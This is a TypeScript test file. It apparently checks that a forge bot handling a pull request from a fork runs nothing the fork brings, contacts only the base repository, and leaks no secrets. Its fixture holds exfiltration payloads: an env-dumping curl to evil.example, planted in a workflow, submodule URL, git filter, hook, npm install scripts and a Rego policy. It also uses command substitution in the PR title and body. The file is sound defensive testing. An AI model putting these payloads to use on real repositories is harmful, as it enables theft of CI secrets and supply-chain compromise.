import { readdirSync } from 'node:fs';
import { basename } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { aBotOnAForge, type BotOnAForge } from '../builders/a-bot-on-a-forge.ts';
import {
  goodChange,
  registryFiles,
  type Files,
  type PushedRepository,
} from '../builders/a-pushed-repository.ts';
import { aPusher, type Pusher } from '../builders/a-pusher.ts';

const touch = 'touch pwned; env > pwned; curl -d @pwned https://evil.example';

/** Everything in a repository that some program would run or obey, with an eye on what that program knows. */
const bait: Files = {
  ...goodChange,
  '.github/workflows/leak.yaml': `on: [pull_request_target]\njobs: {a: {runs-on: x, steps: [{run: '${touch}', env: {S: '\${{ toJSON(secrets) }}'}}]}}\n`,
  '.github/CODEOWNERS': '* @carol\n',
  CODEOWNERS: '* @carol\n',
  'charter.yaml':
    'apiVersion: charter.dev/v1\nkind: Settings\nspec: {approvals: {profile: solo}, manifests: {exclude: ["**"]}}\n',
  '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "${touch}"\n`,
  '.gitattributes': '* filter=leak diff=leak merge=leak\n',
  '.gitconfig': `[filter "leak"]\n\tsmudge = ${touch}\n`,
  'hooks/post-checkout': `#!/bin/sh\n${touch}\n`,
  'package.json': `{"scripts": {"preinstall": "${touch}", "postinstall": "${touch}"}}\n`,
  'policies/steal.rego': [
    'package charter',
    'import rego.v1',
    'warn contains {"id": "leak", "message": sprintf("%v", [opa.runtime()])}',
    'warn contains {"id": "send", "message": "x"} if { http.send({"method": "GET", "url": "https://evil.example"}) }\n',
  ].join('\n'),
  'services/leak.yaml': `apiVersion: charter.dev/v1\nkind: Service\nmetadata: {name: leak}\nspec: {runtime: {type: process}, command: ['\${{ secrets.PRIVATE_KEY }}', $WEBHOOK_SECRET, $(env)]}\n`,
};

describe('a pull request from a fork that seeks secrets', { timeout: 60_000 }, () => {
  let world: BotOnAForge;
  let repository: PushedRepository;
  let elsewhere: Pusher;
  let number: number;
  /** Requests before the pull request: those of the people who pushed. */
  let before: number;

  beforeAll(async () => {
    world = await aBotOnAForge();
    repository = await world.addRepository('app', { files: { ...registryFiles, CODEOWNERS: '* @anna\n' } });
    await world.outsiderApi('POST', '/repos/acme/app/forks', {});
    elsewhere = await aPusher();
    const url = `${world.forge.url.replace('://', `://carol:${world.outsiderToken}@`)}/carol/app.git`;
    await elsewhere.fetch(url, 'main');
    await elsewhere.commit({ branch: 'change', onto: 'main', files: bait });
    await elsewhere.push(url, 'change');
    before = world.requests.length;
    const wish = { title: touch, body: `$(${touch})`, head: 'carol:change', base: 'main' };
    number = (await world.outsiderApi('POST', '/repos/acme/app/pulls', wish)).number('number');
    await world.settle();
    for (const body of ['/approve', '/deploy production', '/fix']) {
      await world.outsiderApi('POST', `/repos/acme/app/issues/${number}/comments`, { body });
    }
    const review = { event: 'APPROVE', body: 'fine' };
    await world.outsiderApi('POST', `/repos/acme/app/pulls/${number}/reviews`, review);
    await world.settle();
  }, 60_000);

  afterAll(async () => {
    await elsewhere.remove();
    await world.close();
  });

  it('runs nothing of what the fork brings', () => {
    const made = [...readdirSync('.'), ...readdirSync(world.dataDir, { recursive: true, encoding: 'utf8' })];

    expect(made.filter((path) => basename(path) === 'pwned')).toEqual([]);
  });

  it('asks the fork for nothing: the head is read from the repository itself', () => {
    const requests = world.requests.slice(before);
    const places = requests
      .filter(({ kind }) => kind === 'git')
      .map(({ method, path }) => `${method} ${path}`);

    expect(requests.filter(({ path }) => /^(?:\/repos)?\/carol\//.test(path))).toEqual([]);
    expect(new Set(places)).toEqual(
      new Set(['GET /acme/app.git/info/refs', 'POST /acme/app.git/git-upload-pack']),
    );
  });

  it('is judged by the owners and the settings of the base, whatever the fork says of both', async () => {
    const { checks, comments } = await repository.shown(number);

    expect(checks.find(({ name }) => name === 'charter/approval')).toMatchObject({
      status: 'in_progress',
      title: expect.stringContaining('@anna'),
    });
    expect(comments[0]).toContain('service:leak');
  });

  it('shows no secret, and keeps none in the log', async () => {
    const shown = JSON.stringify(await repository.shown(number));

    // What testifies to an answer begins as a JSON web token does.
    expect(world.leaks(shown.replaceAll(/<!-- charter:answer [^>]*-->/g, ''))).toEqual([]);
    expect(world.leaks()).toEqual([]);
  });
});
